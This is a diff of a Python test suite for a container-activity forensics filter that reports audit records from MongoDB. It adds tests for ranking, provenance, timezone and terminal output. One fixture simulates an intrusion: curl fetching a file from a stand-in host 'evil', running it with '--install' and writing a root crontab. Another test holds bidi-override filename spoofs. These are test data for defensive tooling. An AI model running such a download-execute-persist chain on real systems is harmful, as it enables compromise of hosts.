@@ -17,6 +17,7 @@ import subprocess
 import sys
 import tempfile
 import traceback
+from time import time_ns
 
 import bson
 import pymongo
@@ -767,8 +768,11 @@ def case_text_format():
     check("100 /usr/bin/dockerd" in txt, "dockerd line:\n" + txt)
     out = os.path.join(tempfile.gettempdir(), "godo-ft-%s.txt" % RUN)
     run_filter(db, "-o", out, fmt="text")
+    # the same report, but for the time it was made
+    gen = re.compile(r"^generated \S+ ", re.M)
     with open(out, encoding="utf-8", errors="replace") as fh:
-        eq(fh.read(), txt, "-o FILE")
+        eq(gen.sub("generated T ", fh.read()), gen.sub("generated T ", txt),
+           "-o FILE")
     os.unlink(out)
 
 
@@ -819,8 +823,15 @@ def case_errors():
     check(r.returncode != 0, "empty database: exit 0")
     eq(len(r.stderr.decode().strip().splitlines()), 1,
        "empty database: one line")
-    r = run_filter(db, "-format=html5", expect_ok=False)
-    check(r.returncode != 0, "bad -format accepted")
+    # every error line has the prefix and names the offending argument
+    for arg, word in (("-format=html5", "html5"), ("-tz=Mars/Base", "Mars/Base"),
+                      ("-since=tomorrow", "-since")):
+        r = run_filter(db, arg, expect_ok=False)
+        eq(r.returncode, 2, arg + ": exit")
+        lines = r.stderr.decode().strip().splitlines()
+        eq(len(lines), 1, arg + ": one line (%r)" % lines)
+        check(lines[0].startswith("filter: error: ") and word in lines[0],
+              arg + ": " + lines[0])
     f = Fixture()
     f.docker()
     f.insert(db)
@@ -995,7 +1006,8 @@ def case_malformed_documents():
     r = run_filter(db, fmt="text", expect_ok=False)
     eq(r.returncode, 3, "text exit status")
     txt = r.stdout.decode()
-    check(txt.splitlines()[1].startswith("INCOMPLETE: 2 documents"),
+    # on top: the first line, the provenance, then the banner
+    check(txt.splitlines()[4].startswith("INCOMPLETE: 2 documents"),
           "banner on top:\n" + txt)
     check("unreadable: pids h1:bad:1" in txt and str(oid) in txt,
           "ids listed:\n" + txt)
@@ -1038,8 +1050,19 @@ def case_hostile_strings():
           "quoting two:\n" + txt)
     check("== container " + "c3" * 30 + r"\x1b]0;x\x07\u{9b}\u{202e}" in txt,
           "container header:\n" + txt)
-    out = run_filter(db)
+    r = run_filter(db, expect_ok=False)
+    eq(r.returncode, 0, "json exit (%r)" % r.stderr)
+    # C1, bidi and zero-width characters are \uXXXX in the file (no
+    # raw override reaches a viewer of the JSON), and read back exactly
+    for bad in ("\u009b", "\u009d", "\u202e", "\u200b", "\ufeff"):
+        check(bad.encode() not in r.stdout, "raw %r in the JSON" % bad)
+    check(b"\\u202e" in r.stdout and b"\\u009b" in r.stdout,
+          "escapes in the JSON")
+    out = json.loads(r.stdout)
     eq(out["containers"][0]["id"], cid, "json keeps the exact id")
+    eq([p["args"] for p in out["processes"] if p["tgid"] == 502],
+       [["cat", "evil\u202etxt.exe\u200b\ufeff\u009d\x7f"]],
+       "json round trip")
     got = chromium_dom(run_filter(db, fmt="html"))
     if got is not None:
         dom, err = got
@@ -1110,6 +1133,171 @@ def case_format_from_output():
     eq(r.returncode, 0, "-since=yesterday (%r)" % r.stderr)
 
 
+def activity_fixture(db):
+    """a quiet container (a1: init and sleep) and a busy one (b2: four
+    processes, two writing files, one started inside a gap)"""
+    f = Fixture()
+    p = f.docker()
+    runc2 = f.task(402, 20, parent=p["shim"], exit=21, args=["runc", "run"])
+    b = {}
+    b["init"] = f.task(600, 20.5, parent=runc2, docker=CID2,
+                       args=["/bin/sh", "/entry.sh"], rootfs="/r2/merged")
+    b["curl"] = f.task(601, 22, parent=b["init"], docker=CID2, exit=23,
+                       args=["curl", "-o", "/tmp/x", "http://evil/x"])
+    b["x"] = f.task(602, 31, parent=b["init"], docker=CID2,
+                    args=["/tmp/x", "--install"])
+    b["cron"] = f.task(603, 32, parent=b["x"], docker=CID2,
+                       args=["crontab", "-"])
+    f.file(b["curl"], "/tmp/x", 22.1, 22.9)
+    f.file(b["cron"], "/var/spool/cron/root", 32.5, 33)
+    f.op(b["x"], "chmod", "/tmp/x", 31.5)
+    f.gaps.append({"_id": "gap-1", "host": "h1", "boot_id": "boot-1",
+                   "source": "audit", "from": date(ns(30)),
+                   "to": date(ns(31.2)), "count": 40})
+    f.insert(db)
+    return p, b
+
+
+def case_activity_order():
+    # the report opens on what matters: the busiest container first, in
+    # text, JSON and HTML; the process started inside a gap is marked
+    db = fresh_db("activity")
+    p, b = activity_fixture(db)
+    out = run_filter(db)
+    eq([c["id"] for c in out["containers"]], [CID2, CID1], "json order")
+    eq([c["rank"] for c in out["containers"]], [1, 2], "json rank")
+    eq(out["containers"][0]["activity"],
+       {"processes_started": 4, "files_changed": 3, "gaps": 1, "score": 8},
+       "busy activity")
+    eq(out["containers"][1]["activity"],
+       {"processes_started": 2, "files_changed": 0, "gaps": 1, "score": 3},
+       "quiet activity (sleep runs across the gap)")
+    gap = {q["id"]: q["in_gap"] for q in out["processes"]}
+    eq([k for k, v in gap.items() if v], [b["x"]["_id"]], "in_gap")
+    txt = run_filter(db, fmt="text")
+    i2, i1 = txt.find("== container " + CID2), txt.find("== container " + CID1)
+    check(0 < i2 < i1 < txt.find("== Docker daemons"), "text order:\n" + txt)
+    check("  1. b2b2b2b2b2b2: 4 processes started, 3 files changed, 1 gap\n"
+          "  2. a1a1a1a1a1a1: 2 processes started, 0 files changed, 1 gap\n"
+          in txt, "ranking:\n" + txt)
+    check(re.search(r"602 /tmp/x --install  \S+  running  \[started in a "
+                    r"gap: events may be missing\]", txt), "gap mark:\n" + txt)
+    eq(txt.count("[started in a gap"), 1, "one gap mark")
+    got = chromium_dom(run_filter(db, fmt="html"))
+    if got is None:
+        return
+    dom, err = got
+    eq(err, [], "script errors")
+    secs = re.findall(r'<section class="ct" data-container="([0-9a-f]*)"'
+                      r'[^>]*?data-rank="(\d+)"', dom)
+    eq(secs, [(CID2, "1"), (CID1, "2")], "html order")
+    first, second = dom.split('data-container="' + CID1 + '"')
+    # the busy container is open down to its writers (600 and 602 hold
+    # the writers 601 and 603); every other tree stays folded
+    for pid in (600, 602):
+        check(re.search(r'data-pid="%d"[^>]*data-expanded="true"' % pid, first),
+              "pid %d not expanded" % pid)
+    check('data-writer="true"' in first, "writers marked")
+    check('data-expanded="true"' not in second, "others folded")
+    check('class="tag ingap"' in dom, "in-gap tag")
+    check('class="ingap"' in dom and 'class="gapband"' in dom,
+          "timeline marks")
+    ticks = re.findall(r'class="ticklabel">([^<]*)<', dom)
+    check(ticks and all(t == "0" or re.fullmatch(r"\+[\d.]+ (s|min|h)", t)
+                        for t in ticks), "axis in s/min/h: %r" % ticks)
+    check('class="legend"' in dom and "started in a gap</span>" in dom,
+          "legend")
+    check(re.search(r'<span class="tm"[^>]*>  2026-11-25 10:00:31\.000000 '
+                    r'UTC</span>', dom), "full date with zone")
+
+
+def case_provenance_tz():
+    # provenance on top of every format; -tz=local shows the local offset
+    db = fresh_db("prov")
+    activity_fixture(db)
+    before = time_ns()
+    out = run_filter(db, "-since=2026-11-25T10:00:10Z")
+    pv = out["provenance"]
+    eq(pv["database"], db.name, "database")
+    eq(pv["store"], URI, "store")
+    eq(pv["hosts"], ["h1"], "hosts")
+    eq((pv["from"], pv["from_source"]), (rfc(ns(10)), "since"), "from")
+    eq((pv["to"], pv["to_source"]), (rfc(ns(50)), "data"), "to")
+    with open(os.path.join(TOP, "VERSION")) as fh:
+        eq(pv["filter_version"], fh.read().strip(), "version")
+    gen = datetime.datetime.strptime(pv["generated"][:26] + "Z",
+                                     "%Y-%m-%dT%H:%M:%S.%fZ")
+    gen = gen.replace(tzinfo=datetime.timezone.utc).timestamp()
+    check(before / 1e9 - 5 < gen < time_ns() / 1e9 + 5, "generated %r" % gen)
+    eq(pv["tz"], "UTC", "tz")
+    txt = run_filter(db, "-since=2026-11-25T10:00:10Z", fmt="text")
+    head = txt.splitlines()[1:4]
+    eq(head[0], "database %s  store %s  host h1" % (db.name, URI), "text db")
+    eq(head[1], "window 2026-11-25T10:00:10.000000000Z (-since) .. "
+       "2026-11-25T10:00:50.000000000Z (last recorded)", "text window")
+    check(head[2].startswith("generated 20") and
+          head[2].endswith("; times in UTC"), head[2])
+    # -tz=local in another zone: +02:00 everywhere, in every format
+    env = dict(os.environ, TZ="XST-2")
+    cmd = WRAP + [FILTER, "-mongo=" + URI, "-db=" + db.name, "-tz=local"]
+    r = subprocess.run(cmd + ["-format=text"], capture_output=True,
+                       env=env, timeout=60 * SLOW)
+    eq(r.returncode, 0, "tz local (%r)" % r.stderr)
+    txt = r.stdout.decode()
+    check("602 /tmp/x --install  2026-11-25T12:00:31.000000000+02:00" in txt,
+          "local time in text:\n" + txt)
+    check(not re.search(r"\d\dZ", txt), "a UTC time left:\n" + txt)
+    r = subprocess.run(cmd + ["-format=json"], capture_output=True,
+                       env=env, timeout=60 * SLOW)
+    out = json.loads(r.stdout)
+    eq(out["provenance"]["tz"], "local", "json tz")
+    eq([q["start"] for q in out["processes"] if q["tgid"] == 602],
+       ["2026-11-25T12:00:31.000000000+02:00"], "json local time")
+    r = subprocess.run(cmd + ["-format=html"], capture_output=True,
+                       env=env, timeout=60 * SLOW)
+    got = chromium_dom(r.stdout.decode("utf-8", "surrogateescape"))
+    if got is not None:
+        dom, err = got
+        eq(err, [], "script errors")
+        check('id="provenance"' in dom and db.name in dom, "provenance")
+        check("2026-11-25 12:00:31.000000 +02:00" in dom, "local in html")
+        check("+10 s</text>" in dom, "axis with local times")
+
+
+def on_tty(*args):
+    """the filter's stdout and stderr as a terminal shows them (script(1)
+    gives it a pty), with its exit status"""
+    cmd = " ".join(shlex.quote(a) for a in WRAP + [FILTER, "-mongo=" + URI]
+                   + list(args))
+    r = subprocess.run(["script", "-qefc", cmd, "/dev/null"],
+                       capture_output=True, timeout=60 * SLOW)
+    return r.returncode, r.stdout.decode("utf-8", "replace")
+
+
+def case_progress_cleared():
+    # on a terminal the progress line is erased before the report (not
+    # left above it), and an error line replaces it
+    if not shutil.which("script"):
+        return
+    db = fresh_db("progress")
+    activity_fixture(db)
+    rc, out = on_tty("-db=" + db.name, "-format=text")
+    eq(rc, 0, "exit (%r)" % out[-500:])
+    check("filter: read " in out, "no progress shown on a tty: %r" % out[:300])
+    head, sep, _ = out.partition("godo filter: ")
+    check(sep and head.endswith("\r\x1b[K"),
+          "progress not erased before the report: %r" % head[-200:])
+    rc, out = on_tty("-db=" + db.name, "-container=nomatch")
+    eq(rc, 1, "-container no match: exit")
+    lines = [l for l in out.replace("\r\n", "\n").split("\n")
+             if "filter: error:" in l]
+    eq(len(lines), 1, "one error line (%r)" % out[-500:])
+    # what the terminal shows of that line: after the last carriage return
+    check(lines[0].split("\r")[-1].startswith("\x1b[Kfilter: error: "
+                                              "-container"),
+          "error line: %r" % lines[0])
+
+
 CASES = [
     ("tree_and_thread_parent_fix", case_tree_and_threads_parent_fix),
     ("orphan_reparenting", case_orphan_reparenting),
@@ -1138,6 +1326,9 @@ CASES = [
     ("hostile_strings", case_hostile_strings),
     ("huge_filename", case_huge_filename),
     ("format_from_output", case_format_from_output),
+    ("activity_order", case_activity_order),
+    ("provenance_tz", case_provenance_tz),
+    ("progress_cleared", case_progress_cleared),
 ]
 
 
